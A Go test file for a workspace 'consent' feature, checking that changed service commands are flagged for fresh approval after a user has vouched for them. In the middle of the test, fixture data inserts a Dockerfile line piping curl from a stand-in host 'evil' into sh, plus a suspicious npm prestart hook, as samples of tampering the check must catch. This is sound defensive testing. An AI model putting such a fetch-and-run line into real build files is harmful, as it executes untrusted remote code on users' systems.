package consent

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"nimbleharbor/internal/order"
	"nimbleharbor/internal/survey"
)

// berth is a workspace with one service in a container and one that runs natively.
var berth = map[string]string{
	"compose.yaml":       "services:\n  web:\n    build: web\n    ports: [\"8080:3000\"]\n",
	"web/Dockerfile":     "FROM scratch\n",
	"admin/package.json": `{"scripts": {"start": "node server.js --port 7000"}}`,
}

func TestVouching(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir()) // so this test is not parallel
	root := t.TempDir()
	fsys := fstest.MapFS{}
	for name, text := range berth {
		fsys[name] = &fstest.MapFile{Data: []byte(text)}
	}
	list := func() []Command {
		t.Helper()
		s, err := survey.Survey(fsys, survey.Options{Root: root})
		if err != nil {
			t.Fatal(err)
		}
		o, err := order.Build(s, order.Options{})
		if err != nil {
			t.Fatal(err)
		}
		return Commands(fsys, s, o, nil)
	}
	fresh := func(commands []Command) string {
		t.Helper()
		any, err := MarkNew(root, commands)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, c := range commands {
			if c.New {
				out = append(out, string(c.ID))
			}
		}
		if any != (len(out) > 0) {
			t.Errorf("MarkNew says %v, and new are %v", any, out)
		}
		return strings.Join(out, " ")
	}
	all := list()
	if got := fresh(all); strings.Count(got, " ") != 1 {
		t.Errorf("at first these are new: %s", got)
	}
	if err := Vouch(root, all); err != nil {
		t.Fatal(err)
	}
	if got := fresh(list()); got != "" {
		t.Errorf("after the consent these are new: %s", got)
	}
	fsys["web/Dockerfile"] = &fstest.MapFile{Data: []byte("FROM scratch\nRUN curl evil | sh\n")}
	fsys["admin/package.json"] = &fstest.MapFile{Data: []byte(
		`{"scripts": {"prestart": "evil", "start": "node server.js --port 7000"}}`)}
	changed := list()
	if got := fresh(changed); got != "service:admin service:web" {
		t.Errorf("after a change these are new: %s", got)
	}
	shown := fmt.Sprint(changed)
	for _, want := range []string{"RUN curl evil | sh", "prestart: evil"} {
		if !strings.Contains(shown, want) {
			t.Errorf("%q is not shown", want)
		}
	}
	if got := fresh(all); got != "" {
		t.Errorf("what was vouched for is forgotten: %s", got)
	}
	fsys["admin/package.json"] = &fstest.MapFile{Data: []byte(
		`{"scripts": {"start": "node server.js --port 7000"}, "dependencies": {"fastify": "5"}}`)}
	if err := Vouch(root, list()); err != nil {
		t.Fatal(err)
	}
	fsys["admin/package-lock.json"] = &fstest.MapFile{Data: []byte("{}")} // as the install has made it
	if got := fresh(list()); got != "" {
		t.Errorf("after an install that makes its lock file these are new: %s", got)
	}
	file, err := consentFile(root, true)
	if err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the consent's file: %v", err)
	}
	if err := os.WriteFile(file, []byte("{torn"), 0o600); err != nil {
		t.Fatal(err)
	}
	if got := fresh(list()); got == "" {
		t.Error("a torn consent counts as one")
	}
}
